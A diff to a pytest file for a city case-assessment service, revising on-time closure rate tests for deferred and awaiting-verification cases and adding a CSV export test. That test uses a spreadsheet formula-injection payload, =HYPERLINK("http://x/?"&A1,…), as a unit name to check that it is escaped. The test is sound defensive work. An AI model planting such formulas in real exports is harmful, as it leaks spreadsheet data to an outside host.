@@ -12,7 +12,7 @@ import pytest
 
 from gridwatch.contract import event_topic
 from server.models import CaseRecord
-from server.services.assessment import GroupBy, Period, assess, next_period, period_label, period_start
+from server.services.assessment import GroupBy, Period, assess, next_period, period_label, period_start, to_csv
 from tests.conftest import as_role
 from tests.factories import event_payload, wait_until
 
@@ -54,13 +54,41 @@ def test_each_indicator_follows_the_citys_formula():
     assert row.mean_response_minutes == 15 and row.mean_handling_minutes == 60
 
 
-def test_a_deferred_case_closed_on_time_is_on_neither_side_of_the_on_time_rate():
+def test_a_case_deferred_once_and_resumed_counts_like_any_other_against_its_moved_deadline():
+    """Found by review: a deferral of a minute, resumed, took a case closed two days late out of the rate (the
+    resume had already given the unit its time back), and a deferred case closed on time had read 2.0."""
     deferred_then_closed = [case("closed", accepted=10, feedback=60, on_time=True),
                             case("closed", accepted=10, feedback=60, on_time=True, deferred=True)]
     [row] = assess(deferred_then_closed, GroupBy.UNIT, Period.MONTH, ZONE, NOW)
-    assert row.on_time_closure_rate == 1.0, "1 on time / (2 due - 1 deferred); it read 2.0"
-    [row] = assess(deferred_then_closed[1:], GroupBy.UNIT, Period.MONTH, ZONE, NOW)
-    assert (row.on_time, row.due - row.deferred, row.on_time_closure_rate) == (0, 0, None)
+    assert (row.on_time, row.due, row.deferred, row.on_time_closure_rate) == (2, 2, 0, 1.0)
+    late = case("closed", accepted=10, feedback=60 * 50, on_time=False, deferred=True)
+    [row] = assess([late], GroupBy.UNIT, Period.MONTH, ZONE, NOW)
+    assert (row.due, row.deferred, row.on_time_closure_rate) == (1, 0, 0.0), "late, deferral or not"
+    [row] = assess([case("deferred", deferred=True, deadline=60)], GroupBy.UNIT, Period.MONTH, ZONE, NOW)
+    assert (row.due, row.deferred, row.on_time_closure_rate) == (1, 1, None), "deferred now: out of the rate"
+
+
+def test_a_case_the_unit_answered_in_time_is_not_late_while_it_waits_to_be_verified():
+    """Found by review: the unit's feedback came 30 minutes before the deadline, the command centre had not yet
+    verified it when the deadline passed, and the unit's rate fell to 0 until someone did."""
+    answered = case("feedback", accepted=10, feedback=30, deadline=60)
+    [row] = assess([answered], GroupBy.UNIT, Period.MONTH, ZONE, NOW)
+    assert (row.due, row.on_time_closure_rate) == (0, None), "not due: the wait is the command centre's"
+    too_late = case("feedback", accepted=10, feedback=90, deadline=60)
+    [row] = assess([too_late], GroupBy.UNIT, Period.MONTH, ZONE, NOW)
+    assert (row.due, row.on_time, row.on_time_closure_rate) == (1, 0, 0.0), "it answered after the deadline"
+
+
+def test_the_csv_quotes_names_a_spreadsheet_would_run_as_formulas():
+    """Found by review: a unit or chief named `=HYPERLINK(…)` in the city's files became a live formula in the
+    supervisor's spreadsheet."""
+    rows = assess([case("closed", unit='=HYPERLINK("http://x/?"&A1,"ok")', on_time=True, feedback=5),
+                   case("closed", unit="-sanitation", on_time=True, feedback=5),
+                   case("closed", unit="sanitation", on_time=True, feedback=5)], GroupBy.UNIT, Period.MONTH, ZONE, NOW)
+    lines = list(csv.DictReader(io.StringIO(to_csv(rows).lstrip("\ufeff"))))
+    assert [line["group"] for line in lines] == ["'-sanitation", "'=HYPERLINK(\"http://x/?\"&A1,\"ok\")",
+                                                 "sanitation"]
+    assert lines[2]["closure_rate"] == "1.0", "numbers as they are"
 
 
 @pytest.mark.parametrize(
